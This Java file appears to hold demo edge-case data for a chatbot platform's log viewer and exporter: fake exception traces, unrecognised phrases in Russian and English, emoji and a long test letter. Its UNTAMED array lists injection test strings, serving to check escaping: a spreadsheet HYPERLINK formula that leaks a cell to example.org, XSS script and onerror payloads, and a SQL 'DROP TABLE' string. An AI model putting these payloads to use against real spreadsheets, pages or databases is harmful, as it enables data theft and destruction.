// SPDX-License-Identifier: Apache-2.0
package io.parley.server.demo;

import static io.parley.server.demo.UserInput.asked;
import static io.parley.server.demo.UserInput.event;

import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * Edge cases for bots and for programs that display or export their log: phrases that no bot understands, texts that
 * look like formulas or HTML, very long texts, failures.
 */
final class EdgeCases {
    static final String TIMEOUT = """
            java.net.SocketTimeoutException: Read timed out
            \tat java.base/sun.nio.ch.NioSocketImpl.timedRead(NioSocketImpl.java:288)
            \tat java.base/sun.nio.ch.NioSocketImpl.implRead(NioSocketImpl.java:314)
            \tat java.base/java.net.Socket$SocketInputStream.read(Socket.java:966)
            \tat demo.bot.accounts.StatementClient.fetch(StatementClient.kt:47)
            \tat demo.bot.scenario.StatementScenario$states$1.invoke(StatementScenario.kt:23)
            \tat java.base/java.lang.Thread.run(Thread.java:1583)
            """;

    static final String NO_SUCH_ORDER = """
            java.lang.NullPointerException: Cannot invoke "demo.bot.orders.Order.getStatus()" because "order" is null
            \tat demo.bot.scenario.OrderScenario$status$1.invoke(OrderScenario.kt:61)
            \tat demo.bot.scenario.OrderScenario$status$1.invoke(OrderScenario.kt:54)
            \tat java.base/java.lang.Thread.run(Thread.java:1583)
            """;

    /**
     * Texts that a spreadsheet would evaluate as formulas, and texts that a page would execute if it does not escape
     * them.
     */
    private static final String[] UNTAMED = {
        "=1+1",
        "=HYPERLINK(\"https://example.org/?leak=\"&A1;\"click me\")",
        "@SUM(A1:A9)",
        "+7 000 123-45-67",
        "-100",
        "\t=2*3",
        "<b>bold</b> & <i>brave</i>",
        "<script>alert('hello')</script>",
        "<img src=x onerror=alert(1)>",
        "a \"quoted\" word; a comma, and\na second line\r\nand a third",
        "'; DROP TABLE message; --",
        "100 % sure_about_it \\ back/slash",
        "[link](https://example.org) *stars* `code`",
        "مرحبا، كيف حالك؟",
        "👩‍👩‍👧‍👦 🏳️‍🌈 🇲🇪",
        "Z̷̬̆a̶̛̜l̸̰͝g̵͎̈o̷͙͒",
        "null",
        "..."
    };

    private EdgeCases() {}

    static List<Step> asidesInRussian() {
        return List.of(
                asked("а можно то же самое, но зелёное?", "ыва", "Мне бы это самое", "абырвалг", "куда нажать")
                        .unrecognised()
                        .says("Извините, я вас не понял. Скажите иначе, пожалуйста.", "Не понимаю. Попробуете ещё?")
                        .label(DemoMessageLabel.UNRECOGNISED),
                asked(UNTAMED).unrecognised().says("Не понимаю такого. Напишите обычными словами."),
                asked("😂😂😂", "👍", "❤️", "🤦‍♂️ ну вы даёте")
                        .regex("[\\p{So}\\p{Sk}\\s].*", "/Emoji")
                        .says("🙂")
                        .labelInEveryGroup(DemoMessageLabel.TOPIC_OTHER),
                asked("Вы меня не поняли", "я не об этом спрашивал")
                        .intent("/НеТо", "/Misunderstood")
                        .says("Простите. О чём был вопрос?")
                        .label(DemoMessageLabel.WRONG_ANSWER)
                        .comment("Проверить распознавание"),
                event("fileEvent", "/File").says("Спасибо, файл сохранён."));
    }

    static List<Step> asidesInEnglish() {
        return List.of(
                asked("can I have it in green", "asdf", "the thing from before", "umm what", "press where?")
                        .unrecognised()
                        .says("Sorry, I did not get that. Could you say it in other words?", "I don't understand.")
                        .label(DemoMessageLabel.UNRECOGNISED),
                asked(UNTAMED).unrecognised().says("I can only read plain words, sorry."),
                asked("😂😂😂", "👍", "❤️", "🤷 whatever")
                        .regex("[\\p{So}\\p{Sk}\\s].*", "/emoji")
                        .says("🙂")
                        .labelInEveryGroup(DemoMessageLabel.TOPIC_OTHER),
                asked("that's not what I asked", "no, wrong answer")
                        .intent("NotThat", "/misunderstood")
                        .says("My apologies. What was your question?")
                        .label(DemoMessageLabel.WRONG_ANSWER)
                        .comment("Check the classifier"),
                event("fileEvent", "/file").says("Thank you, the file is saved."));
    }

    static String letterInRussian() {
        return letter(". Я пришёл в отделение на {address} к {time}, взял талон и ждал {minutes} минут,"
                + " пока меня позовут, хотя в зале никого не было, а три окна из четырёх закрыты"
                + " «по техническим причинам».");
    }

    static String letterInEnglish() {
        return letter(". I came to {address} at {time}, drew a number and waited {minutes} minutes to be called, though"
                + " nobody else was there and three of four counters were closed “for technical reasons”.");
    }

    /** Returns about 4,000 characters in 20 paragraphs. */
    private static String letter(String paragraph) {
        return IntStream.rangeClosed(1, 20)
                .mapToObj(number -> number + paragraph)
                .collect(Collectors.joining("\n\n"));
    }
}
